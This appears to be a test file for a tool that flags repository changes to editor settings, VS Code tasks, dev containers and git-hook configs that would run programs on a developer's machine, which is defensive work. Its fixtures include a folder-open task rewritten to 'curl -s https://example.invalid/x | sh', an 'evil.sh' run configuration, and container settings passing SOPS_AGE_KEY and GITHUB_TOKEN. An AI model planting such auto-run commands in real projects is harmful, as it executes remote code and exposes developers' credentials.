import { describe, expect, it } from "vitest";
import { jetBrainsStartupFileOf, hookCommandPathsOf, hookManagerOf, lefthookFilesOf, automaticTasks, EDITOR_SETTINGS_PATHSPECS, editorSettingsChanges, isHookManagerFile, helixProgramSettings, stellarEditorSettings, vscodeProgramSettings, zedProgramSettings } from "./editor-settings.js";

describe("stellarEditorSettings", () => {
  it("reads VS Code's JSON with comments and trailing commas, dotted keys and a stellarSecrets object alike, strings as written", () => {
    const text = `{
  // the team's settings
  "editor.tabSize": 2, /* a block comment with "quotes" */
  "stellarSecrets.cliPath": "./tools/cli.sh // not a comment",
  "stellarSecrets": { "rules": { "unused-secret": "off", }, },
}`;
    expect(stellarEditorSettings(text)).toEqual(
      new Map([
        ["stellarSecrets.cliPath", JSON.stringify("./tools/cli.sh // not a comment")],
        ["stellarSecrets.rules", JSON.stringify({ "unused-secret": "off" })],
      ]),
    );
    expect(stellarEditorSettings(undefined)).toEqual(new Map());
    expect(stellarEditorSettings("{ not json")).toBeUndefined();
  });
});

describe("editorSettingsChanges", () => {
  it("names the stellarSecrets settings a change adds, removes or changes; other settings, and a malformed file that never names ours, are no change", () => {
    const base = '{ "editor.tabSize": 2, "stellarSecrets.rules": { "unused-secret": "warning" } }';
    expect(
      editorSettingsChanges([
        { path: ".vscode/settings.json", before: base, after: base.replace("2,", '4, "stellarSecrets.cliPath": "./x.sh",').replace('"warning"', '"off"') },
        { path: "infra/.vscode/settings.json", before: undefined, after: '{ "files.eol": "\\n" }' },
        { path: "docs/.vscode/settings.json", before: "{ broken", after: "{ still broken" },
      ]),
    ).toEqual([{ path: ".vscode/settings.json", settings: ["stellarSecrets.cliPath", "stellarSecrets.rules"] }]);
    expect(editorSettingsChanges([{ path: ".vscode/settings.json", before: base, after: '{ "stellarSecrets.cliPath": "./x.sh" ' }])).toEqual([
      { path: ".vscode/settings.json", settings: ["stellarSecrets.rules", "unreadable"] },
    ]);
  });
});

describe("the other files VS Code reads a repository's settings from", () => {
  const ours = '"stellarSecrets.cliPath": "./tools/x.sh", "stellarSecrets": { "rules": { "unknown-secret": "off" } }';
  it("a workspace file's `settings` and a dev container's `customizations.vscode.settings`, with comments; the same keys elsewhere in those files are not settings", () => {
    const expected = new Map([
      ["stellarSecrets.cliPath", JSON.stringify("./tools/x.sh")],
      ["stellarSecrets.rules", JSON.stringify({ "unknown-secret": "off" })],
    ]);
    expect(stellarEditorSettings(`{ "folders": [{ "path": "." }], // ours\n "settings": { ${ours}, }, }`, "team.code-workspace")).toEqual(expected);
    expect(stellarEditorSettings(`{ "name": "dev", "customizations": { "vscode": { "extensions": [], "settings": { ${ours} } } } }`, ".devcontainer/devcontainer.json")).toEqual(expected);
    expect(stellarEditorSettings(`{ "customizations": { "vscode": { "settings": { ${ours} } } } }`, "infra/.devcontainer/node/devcontainer.json")).toEqual(expected);
    expect(stellarEditorSettings(`{ "customizations": { "vscode": { "settings": { ${ours} } } } }`, ".devcontainer.json")).toEqual(expected);
    // top-level keys of a workspace or container file are not settings
    expect(stellarEditorSettings(`{ ${ours}, "settings": {} }`, "team.code-workspace")).toEqual(new Map());
    expect(stellarEditorSettings(`{ ${ours} }`, ".devcontainer/devcontainer.json")).toEqual(new Map());
    // a devcontainer.json outside .devcontainer/ is no container file VS Code reads: its top level, as any settings file's
    expect(stellarEditorSettings(`{ ${ours} }`, "docs/devcontainer.json")).toEqual(expected);
  });

  it("a change to them is named as for .vscode/settings.json", () => {
    expect(
      editorSettingsChanges([
        { path: "team.code-workspace", before: '{ "folders": [], "settings": {} }', after: '{ "folders": [], "settings": { "stellarSecrets.cliPath": "./x.sh" } }' },
        { path: ".devcontainer/devcontainer.json", before: undefined, after: '{ "customizations": { "vscode": { "settings": { "stellarSecrets.rules": { "plaintext-credential": "off" } } } } }' },
        { path: "other.code-workspace", before: '{ "folders": [] }', after: '{ "folders": [{ "path": "infra" }] }' },
      ]),
    ).toEqual([
      { path: ".devcontainer/devcontainer.json", settings: ["stellarSecrets.rules"] },
      { path: "team.code-workspace", settings: ["stellarSecrets.cliPath"] },
    ]);
  });
});

describe("other editors' project files that run a program", () => {
  it("reads Zed's lsp.NAME.binary (any server) and a stellar-secrets server's whole entry, JSON with comments", () => {
    const text = `{
  // team settings
  "tab_size": 2,
  "lsp": {
    "rust-analyzer": { "binary": { "path": "./tools/ra", "arguments": [] }, "initialization_options": { "x": 1 } },
    "yaml-language-server": { "settings": { "yaml": { "format": { "enable": true } } } },
    "stellar-secrets": { "settings": { "stellarSecrets": { "rules": { "unused-secret": "off" } } } },
  },
}`;
    expect(zedProgramSettings(text)).toEqual(
      new Map([
        ["lsp.rust-analyzer.binary", JSON.stringify({ path: "./tools/ra", arguments: [] })],
        ["lsp.stellar-secrets", JSON.stringify({ settings: { stellarSecrets: { rules: { "unused-secret": "off" } } } })],
      ]),
    );
    expect(zedProgramSettings("{ nope")).toBeUndefined();
  });

  it("reads Helix's language-server command, args and environment, a language's formatter and language-servers, over several lines; not other keys or comments", () => {
    const text = `# team
[language-server.stellar-secrets]
command = "stellar-secrets-language-server"
args = [
  "--stdio",
]
timeout = 20

[language-server.stellar-secrets.environment]
NODE_OPTIONS = "--require ./x.js"

[[language]]
name = "yaml"
indent = { tab-width = 2, unit = "  " }
language-servers = ["stellar-secrets"]
formatter = { command = "prettier", args = ["--parser", "yaml"] }
`;
    expect(helixProgramSettings(text)).toEqual(
      new Map([
        ["language-server.stellar-secrets.command", 'command = "stellar-secrets-language-server"'],
        ["language-server.stellar-secrets.args", 'args = [\n"--stdio",\n]'],
        ["language-server.stellar-secrets.environment", 'NODE_OPTIONS = "--require ./x.js"'],
        ["language#1.language-servers", 'language-servers = ["stellar-secrets"]'],
        ["language#1.formatter", 'formatter = { command = "prettier", args = ["--parser", "yaml"] }'],
      ]),
    );
  });

  it("names a change to them, and nothing for other settings or comments; git is asked about those files too", () => {
    const zed = '{ "lsp": { "stellar-secrets": { "binary": { "path": "stellar-secrets-language-server" } } }, "tab_size": 2 }';
    const helix = '[language-server.stellar-secrets]\ncommand = "stellar-secrets-language-server"\n';
    expect(
      editorSettingsChanges([
        { path: ".zed/settings.json", before: zed, after: zed.replace('"stellar-secrets-language-server"', '"./tools/ls.sh"') },
        { path: "infra/.zed/settings.json", before: zed, after: zed.replace("2 }", "4 }") },
        { path: ".helix/languages.toml", before: helix, after: helix.replace('"stellar-secrets-language-server"', '"sh"\nargs = ["-c", "./tools/ls.sh"]') },
        { path: "docs/.helix/languages.toml", before: helix, after: `# a comment\n${helix}\n[[language]]\nname = "yaml"\nindent = { tab-width = 4, unit = "    " }\n` },
        { path: "x/.zed/settings.json", before: undefined, after: '{ "lsp": { "ra": { "binary": { "path": "/usr/bin/ra" } } } }' },
      ]),
    ).toEqual([
      { path: ".helix/languages.toml", settings: ["language-server.stellar-secrets.args", "language-server.stellar-secrets.command"] },
      { path: ".zed/settings.json", settings: ["lsp.stellar-secrets"] },
      { path: "x/.zed/settings.json", settings: ["lsp.ra.binary"] },
    ]);
    expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,glob)**/.zed/settings.json", ":(top,glob)**/.helix/languages.toml"]));
  });
});

describe("VS Code tasks that run when a member opens the folder (runOptions.runOn folderOpen)", () => {
  const tasks = `{
  // the team's tasks
  "version": "2.0.0",
  "options": { "env": { "A": "1" } },
  "tasks": [
    { "label": "prepare", "type": "shell", "command": "./tools/prepare.sh", "dependsOn": ["deps"], "runOptions": { "runOn": "folderOpen" } },
    { "label": "deps", "type": "shell", "command": "npm ci", "dependsOn": "lint" },
    { "label": "lint", "type": "shell", "command": "npm run lint" },
    { "label": "build", "type": "shell", "command": "npm run build", },
  ],
}`;
  it("reads each task that runs on open and those it depends on (transitively), and the file's other fields; not other tasks", () => {
    expect([...vscodeProgramSettings(tasks, ".vscode/tasks.json")!.keys()]).toEqual(['task "prepare"', 'task "deps"', 'task "lint"', "tasks options"]);
    expect(automaticTasks({ tasks: [{ label: "build", command: "make" }], options: { cwd: "x" } })).toEqual(new Map());
    // a workspace file's tasks, next to its settings
    const workspace = `{ "folders": [{ "path": "." }], "settings": { "stellarSecrets.cliPath": "x" }, "tasks": { "version": "2.0.0", "tasks": [{ "label": "w", "command": "./w.sh", "runOptions": { "runOn": "folderOpen" } }] } }`;
    expect([...vscodeProgramSettings(workspace, "team.code-workspace")!.keys()]).toEqual(["stellarSecrets.cliPath", 'task "w"']);
  });

  it("names a change to a task that runs on open (its command, a task it depends on, the file's options), a task made to run on open, and nothing for other tasks; git is asked about tasks.json too", () => {
    const changes = editorSettingsChanges([
      { path: ".vscode/tasks.json", before: tasks, after: tasks.replace("./tools/prepare.sh", "curl -s https://example.invalid/x | sh") },
      { path: "a/.vscode/tasks.json", before: tasks, after: tasks.replace("npm run lint", "./lint.sh") },
      { path: "b/.vscode/tasks.json", before: tasks, after: tasks.replace('"A": "1"', '"PATH": "./bin"') },
      { path: "c/.vscode/tasks.json", before: tasks, after: tasks.replace("npm run build", "./build.sh") },
      { path: "d/.vscode/tasks.json", before: undefined, after: tasks },
      { path: "e/.vscode/tasks.json", before: tasks.replace(', "runOptions": { "runOn": "folderOpen" }', ""), after: tasks },
      { path: "f/.vscode/tasks.json", before: tasks, after: `${tasks}\n}` },
      { path: "g/.vscode/tasks.json", before: tasks, after: tasks.replace("// the team's tasks", "// ours") },
      { path: "w.code-workspace", before: "{}", after: `{ "tasks": { "tasks": [{ "label": "w", "command": "./w.sh", "runOptions": { "runOn": "folderOpen" } }] } }` },
    ]);
    expect(changes).toEqual([
      { path: ".vscode/tasks.json", settings: ['task "prepare"'] },
      { path: "a/.vscode/tasks.json", settings: ['task "lint"'] },
      { path: "b/.vscode/tasks.json", settings: ["tasks options"] },
      { path: "d/.vscode/tasks.json", settings: ['task "deps"', 'task "lint"', 'task "prepare"', "tasks options"] },
      { path: "e/.vscode/tasks.json", settings: ['task "deps"', 'task "lint"', 'task "prepare"', "tasks options"] },
      { path: "f/.vscode/tasks.json", settings: ['task "deps"', 'task "lint"', 'task "prepare"', "tasks options", "unreadable"] },
      { path: "w.code-workspace", settings: ['task "w"'] },
    ]);
    expect(EDITOR_SETTINGS_PATHSPECS).toContain(":(top,glob)**/.vscode/tasks.json");
  });
});

describe("VS Code's settings that choose the program a task or terminal runs", () => {
  it("reads terminal.integrated automationProfile, defaultProfile, profiles, shell, env (dotted or nested) and task.allowAutomaticTasks; not other terminal settings", () => {
    const settings = `{
  // the team's terminal
  "terminal.integrated.automationProfile.linux": { "path": "\${workspaceFolder}/tools/sh" },
  "terminal": { "integrated": { "env": { "linux": { "PATH": "\${workspaceFolder}/bin:\${env:PATH}" } }, "fontSize": 13 } },
  "task.allowAutomaticTasks": "on",
  "terminal.integrated.scrollback": 5000,
}`;
    expect(vscodeProgramSettings(settings)).toEqual(
      new Map([
        ["terminal.integrated.automationProfile.linux", '{"path":"${workspaceFolder}/tools/sh"}'],
        ["terminal.integrated.env.linux", '{"PATH":"${workspaceFolder}/bin:${env:PATH}"}'],
        ["task.allowAutomaticTasks", '"on"'],
      ]),
    );
    // in a workspace file's settings and a dev container's too
    expect([...vscodeProgramSettings('{ "settings": { "terminal.integrated.defaultProfile.osx": "repo" } }', "a.code-workspace")!.keys()]).toEqual(["terminal.integrated.defaultProfile.osx"]);
    expect([...vscodeProgramSettings('{ "customizations": { "vscode": { "settings": { "terminal.integrated.profiles.linux": { "repo": { "path": "./x" } } } } } }', ".devcontainer.json")!.keys()]).toEqual(["terminal.integrated.profiles.linux"]);
    // a dev container's fields that run a program on the member's machine or reach it; only in a dev container file
    const container = '{ "image": "x", "initializeCommand": ["sh", "-c", "./p.sh"], "runArgs": ["--privileged"], "features": { "ghcr.io/devcontainers/features/docker-outside-of-docker:1": {} }, "postCreateCommand": "npm ci", "forwardPorts": [3000] }';
    expect(vscodeProgramSettings(container, "infra/.devcontainer/node/devcontainer.json")).toEqual(
      new Map([
        ["initializeCommand", '["sh","-c","./p.sh"]'],
        ["runArgs", '["--privileged"]'],
        ["features", '{"ghcr.io/devcontainers/features/docker-outside-of-docker:1":{}}'],
        // what runs in the container (which has the member's SSH agent and git credentials): its commands and image
        ["postCreateCommand", '"npm ci"'],
        ["image", '"x"'],
      ]),
    );
    // every ${localEnv:…} of the file (a variable of the member's machine passed into the container), wherever it is
    const local = '{ "containerEnv": { "K": "${localEnv:SOPS_AGE_KEY}" }, "build": { "args": { "T": "${localEnv:GITHUB_TOKEN}" } }, "forwardPorts": [3000] }';
    expect(vscodeProgramSettings(local, ".devcontainer/devcontainer.json")?.get("localEnv")).toBe(JSON.stringify(["${localEnv:GITHUB_TOKEN}", "${localEnv:SOPS_AGE_KEY}"]));
    expect(editorSettingsChanges([{ path: ".devcontainer/devcontainer.json", before: '{ "image": "x", "forwardPorts": [3000] }', after: '{ "image": "x", "forwardPorts": [3001], "postStartCommand": "./tools/start.sh", "remoteEnv": { "A": "${localEnv:SOPS_AGE_KEY}" } }' }])).toEqual([
      { path: ".devcontainer/devcontainer.json", settings: ["localEnv", "postStartCommand", "remoteEnv"] },
    ]);
    expect(vscodeProgramSettings(container, "docs/devcontainer.json")).toEqual(new Map());
    expect(vscodeProgramSettings(container, ".vscode/settings.json")).toEqual(new Map());
    // a dev container file that is no JSON, naming such a field, is a change of it all the same
    expect(editorSettingsChanges([{ path: ".devcontainer.json", before: '{ "image": "x" }', after: '{ "image": "x", "initializeCommand": "./p.sh" ' }])).toEqual([{ path: ".devcontainer.json", settings: ["image", "unreadable"] }]);
    expect(
      editorSettingsChanges([
        { path: ".vscode/settings.json", before: "{}", after: settings },
        { path: "a/.vscode/settings.json", before: "{}", after: '{ "terminal.integrated.fontSize": 13 }' },
      ]),
    ).toEqual([{ path: ".vscode/settings.json", settings: ["task.allowAutomaticTasks", "terminal.integrated.automationProfile.linux", "terminal.integrated.env.linux"] }]);
  });
});

describe("git hook managers' files", () => {
  it("isHookManagerFile: the pre-commit framework's config and lefthook's at the top, husky's hooks in any .husky folder (not its generated _ folder); the pathspecs are read with the settings", () => {
    expect([".pre-commit-config.yaml", "lefthook.yml", ".lefthook.yaml", ".husky/pre-commit", "web/.husky/commit-msg", "../.pre-commit-config.yaml"].filter(isHookManagerFile)).toHaveLength(6);
    expect(["docs/.pre-commit-config.yaml", ".pre-commit-hooks.yaml", ".husky/_/pre-commit", "husky/pre-commit", "sub/lefthook.yml"].filter(isHookManagerFile)).toEqual([]);
    expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,literal).pre-commit-config.yaml", ":(top,glob)**/.husky/*", ":(top,literal)lefthook.yml"]));
    expect(editorSettingsChanges([{ path: ".husky/pre-commit", before: "a\n", after: "b\n" }])).toEqual([{ path: ".husky/pre-commit", settings: ["changed"] }]);
  });

  it("isHookManagerFile: every lefthook config name lefthook reads (.yml/.yaml/.toml/.json/.jsonc, in .config/, the merged lefthook-local) and its scripts folders", () => {
    const lefthook = ["lefthook.toml", ".lefthook.json", "lefthook.jsonc", ".config/lefthook.yml", ".config/lefthook.toml", "lefthook-local.yml", ".lefthook-local.yaml", ".config/lefthook-local.json", ".lefthook/pre-commit/fmt.sh", ".lefthook-local/pre-push/x"];
    expect(lefthook.filter(isHookManagerFile)).toEqual(lefthook);
    expect(["sub/lefthook.toml", ".config/.lefthook.yml", "lefthook.txt", ".lefthook/x", ".lefthook/a/b/c"].filter(isHookManagerFile)).toEqual([]);
    expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,literal)lefthook-local.yml", ":(top,literal).config/lefthook.toml", ":(top,glob).lefthook/*/*"]));
    expect(hookManagerOf(".lefthook/pre-commit/fmt.sh")).toEqual({ manager: "lefthook", script: true });
    expect(hookManagerOf("lefthook-local.yml")).toEqual({ manager: "lefthook", script: false });
    expect(hookManagerOf("web/.husky/pre-push")).toEqual({ manager: "husky", script: true });
  });

  it("hookCommandPathsOf: a command word with a / where a command starts (a hook script's lines, entry:/run: values and their block scalars), from the top; not arguments, absolute or computed paths, comments", () => {
    expect(hookCommandPathsOf(".husky/pre-commit", '#!/bin/sh\n# tools/not-this\ntools/fmt "$@"\nnpx lint-staged && ./bin/check --all; echo docs/x.md\n$(scripts/gen)\n/usr/bin/env true\n$HOME/x\n../outside\n')).toEqual(["tools/fmt", "bin/check", "scripts/gen"]);
    expect(hookCommandPathsOf(".pre-commit-config.yaml", "repos:\n  - repo: local\n    hooks:\n      - id: a\n        entry: tools/lint --fix\n        language: system\n        files: src/x.py\n      - id: b\n        entry: \"ci/b\"\n")).toEqual(["tools/lint", "ci/b"]);
    expect(hookCommandPathsOf("lefthook.yml", "pre-commit:\n  jobs:\n    - run: |\n        bin/hook {staged_files}\n        echo a/b\n      glob: src/a.ts\n    - run: env X=1 tools/y\n")).toEqual(["bin/hook", "tools/y"]);
    expect(hookCommandPathsOf("lefthook.toml", '[pre-commit.commands.a]\nrun = "scripts/a {staged_files}"\n')).toEqual(["scripts/a"]);
    expect(hookCommandPathsOf("lefthook.json", '{ "pre-commit": { "commands": { "a": { "run": "scripts/b x", "glob": "a/b" } } } }')).toEqual(["scripts/b"]);
  });

  it("hookCommandPathsOf: after a static cd (same command or a line before; a subshell's too) a command word is also read from that folder; after a computed cd, from the top only", () => {
    expect(hookCommandPathsOf(".husky/pre-commit", "cd web && ./x\ncd ../tools\nbin/y\n(cd /abs && z/w)\n")).toEqual(["x", "web/x", "bin/y", "tools/bin/y", "z/w"]);
    expect(hookCommandPathsOf(".husky/pre-commit", 'cd "$(dirname "$0")" && ./x\n')).toEqual(["x"]);
    expect(hookCommandPathsOf("lefthook.yml", "pre-commit:\n  commands:\n    a:\n      run: cd api && bin/check\n    b:\n      run: tools/fmt\n")).toEqual(["bin/check", "api/bin/check", "tools/fmt"]);
  });

  it("lefthookFilesOf: a TOML or JSON config's extends, rc and scripts (in its source_dir) as a YAML one's", () => {
    const toml = [
      'source_dir = "tools/hooks/"',
      'rc = ".lefthookrc"',
      "extends = [",
      '  "ci/extra.toml",',
      "]",
      "[pre-commit.scripts.\"check.sh\"]",
      'runner = "bash"',
      "[pre-push.scripts]",
      'guard = { runner = "sh" }',
      "[pre-push.commands.x]",
      'run = "echo"',
      "",
    ].join("\n");
    expect(lefthookFilesOf(toml, "lefthook.toml")).toEqual([".lefthookrc", "ci/extra.toml", "tools/hooks/pre-commit/check.sh", ".lefthook-local/pre-commit/check.sh", "tools/hooks/pre-push/guard", ".lefthook-local/pre-push/guard"]);
    const json = '{ // a comment\n "source_dir_local": "local", "rc": "./rc.sh", "extends": ["a.json", "/etc/x.json"], "pre-commit": { "scripts": { "lint.js": { "runner": "node" } } }, }';
    expect(lefthookFilesOf(json, ".config/lefthook.jsonc")).toEqual(["rc.sh", "a.json", ".lefthook/pre-commit/lint.js", "local/pre-commit/lint.js"]);
    // read with the config's commands (hookCommandPathsOf), by its name
    expect(hookCommandPathsOf("lefthook.toml", toml)).toEqual(expect.arrayContaining(["tools/hooks/pre-commit/check.sh", "ci/extra.toml", ".lefthookrc"]));
    expect(hookCommandPathsOf("lefthook.json", json)).toEqual(expect.arrayContaining(["rc.sh", "a.json", "local/pre-commit/lint.js"]));
  });

  it("lefthookFilesOf: the configs a lefthook.yml extends, its rc file, and each hook's scripts in its source_dir (and source_dir_local)", () => {
    const text = [
      "source_dir: tools/hooks/",
      "rc: ./.lefthookrc",
      "extends:",
      "  - ci/lefthook-extra.yml",
      "  - /etc/global.yml",
      "pre-commit:",
      "  parallel: true",
      "  scripts:",
      '    "check.sh":',
      "      runner: bash",
      "    lint.js:",
      "      runner: node",
      "  commands:",
      "    x:",
      "      run: echo",
      "pre-push:",
      "  scripts:",
      "    guard:",
      "      runner: sh",
      "",
    ].join("\n");
    expect(lefthookFilesOf(text)).toEqual([
      ".lefthookrc",
      "ci/lefthook-extra.yml",
      "tools/hooks/pre-commit/check.sh",
      ".lefthook-local/pre-commit/check.sh",
      "tools/hooks/pre-commit/lint.js",
      ".lefthook-local/pre-commit/lint.js",
      "tools/hooks/pre-push/guard",
      ".lefthook-local/pre-push/guard",
    ]);
    expect(lefthookFilesOf("extends: [a.yml, 'b/c.yml']\n")).toEqual(["a.yml", "b/c.yml"]);
    // read with a lefthook config's commands (hookCommandPathsOf), not for other hook managers' files
    expect(hookCommandPathsOf("lefthook.yml", text)).toEqual(expect.arrayContaining([".lefthookrc", "tools/hooks/pre-commit/check.sh", "ci/lefthook-extra.yml"]));
    expect(hookCommandPathsOf(".pre-commit-config.yaml", "rc: x.sh\n")).toEqual([]);
  });
});

describe("JetBrains project files that run a program unasked", () => {
  const WATCHER = (program: string) => `<?xml version="1.0" encoding="UTF-8"?>\n<project version="4">\n  <component name="ProjectTasksOptions">\n    <TaskOptions isEnabled="true">\n      <option name="program" value="${program}" />\n    </TaskOptions>\n  </component>\n</project>\n`;
  const STARTUP = '<project version="4">\n  <component name="ProjectStartupSharedConfiguration">\n    <configurations>\n      <configuration id="Shell Script.setup" name="setup" />\n    </configurations>\n  </component>\n</project>\n';
  const RUN = (script: string) => `<component name="ProjectRunConfigurationManager">\n  <configuration default="false" name="setup" type="ShConfigurationType">\n    <option name="SCRIPT_PATH" value="${script}" />\n  </configuration>\n</component>\n`;
  it("a File Watcher, a startup task list, a workspace.xml holding them, and a run configuration the project's startup.xml names are changes; a run configuration no startup task names, a plain workspace.xml, a removal are not", () => {
    const changes = editorSettingsChanges([
      { path: ".idea/watcherTasks.xml", before: WATCHER("$ProjectFileDir$/node_modules/.bin/prettier"), after: WATCHER("$ProjectFileDir$/tools/x.sh") },
      { path: "web/.idea/startup.xml", before: undefined, after: STARTUP },
      { path: "web/.idea/runConfigurations/setup.xml", before: RUN("tools/setup.sh"), after: RUN("tools/evil.sh") },
      { path: ".run/setup.run.xml", before: RUN("a.sh"), after: RUN("b.sh") },
      { path: ".idea/workspace.xml", before: "<project/>", after: '<project><component name="ProjectStartupLocalConfiguration"/></project>' },
      { path: "api/.idea/workspace.xml", before: "<project>a</project>", after: "<project>b</project>" },
    ]);
    expect(changes.map((c) => [c.path, c.settings])).toEqual([
      [".idea/watcherTasks.xml", ["changed"]],
      [".idea/workspace.xml", ["changed"]],
      ["web/.idea/runConfigurations/setup.xml", ["changed"]],
      ["web/.idea/startup.xml", ["added"]],
    ]);
    expect(jetBrainsStartupFileOf("web/.run/x.run.xml")).toBe("web/.idea/startup.xml");
    expect(jetBrainsStartupFileOf(".idea/runConfigurations/x.xml")).toBe(".idea/startup.xml");
    expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,glob)**/.idea/watcherTasks.xml", ":(top,glob)**/.run/*.run.xml"]));
  });
});
